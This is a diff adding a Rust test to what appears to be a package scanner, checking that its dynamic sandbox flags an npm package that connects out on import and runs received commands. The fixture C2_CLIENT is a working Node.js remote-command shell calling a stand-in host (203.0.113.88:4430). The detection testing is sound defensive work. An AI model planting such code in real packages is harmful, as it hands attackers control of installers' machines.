@@ -811,3 +811,77 @@ fn binding_gyp_commands_run_in_the_sandbox_with_the_local_node_headers() {
     });
     assert!(ran, "the gyp command expansion did not run: {commands:#?}");
 }
+
+/// `main` connects to its "controller" at import and runs what it is sent; the second
+/// package only logs what it receives.
+const C2_CLIENT: &str = r#"const net = require('net');
+const { exec } = require('child_process');
+const socket = net.connect(4430, '203.0.113.88');
+socket.on('error', () => {});
+socket.on('data', (data) => exec(data.toString(), (err, out) => socket.write(out || '')));
+"#;
+const WAITING_CLIENT: &str = r#"const net = require('net');
+const socket = net.connect(4431, '203.0.113.89');
+socket.on('error', () => {});
+socket.on('data', (data) => console.log('banner', data.length));
+"#;
+
+#[test]
+fn a_package_that_runs_what_its_controller_sends_is_caught_running_the_probe() {
+    if !sandbox_tests_enabled(
+        "a_package_that_runs_what_its_controller_sends_is_caught_running_the_probe",
+    ) {
+        return;
+    }
+    let registry = TestRegistry::start();
+    for (name, code) in [("c2-client", C2_CLIENT), ("waiting-client", WAITING_CLIENT)] {
+        registry.publish(
+            PackageBuilder::new(name, "1.0.0")
+                .file("index.js", code)
+                .build(),
+        );
+    }
+    let scan = |spec: &str| {
+        let home = TempHome::new();
+        let (code, report, stderr) = scan_json(dsca(&home).args([
+            "scan",
+            "--dynamic",
+            "--import-timeout",
+            "8",
+            "--format",
+            "json",
+            "--registry",
+            registry.url(),
+            spec,
+        ]));
+        assert_eq!(code, 0, "{spec}: {stderr}");
+        report
+    };
+    let report = scan("c2-client@1.0.0");
+    let rules = rule_ids(&report);
+    assert!(
+        rules.iter().any(|r| r == "DSCA1012"),
+        "{rules:?}\n{:#}",
+        report["dynamic"]
+    );
+    let connections = phase_records(&report["dynamic"], "/connections");
+    assert!(
+        connections
+            .iter()
+            .any(|c| c["kind"] == "probed" && c["port"] == 4430),
+        "{connections:#?}"
+    );
+
+    let honest = scan("waiting-client@1.0.0");
+    assert!(
+        !rule_ids(&honest).iter().any(|r| r == "DSCA1012"),
+        "{honest:#}"
+    );
+    let connections = phase_records(&honest["dynamic"], "/connections");
+    assert!(
+        connections
+            .iter()
+            .any(|c| c["kind"] == "probed" && c["port"] == 4431),
+        "the silent client was not probed: {connections:#?}"
+    );
+}
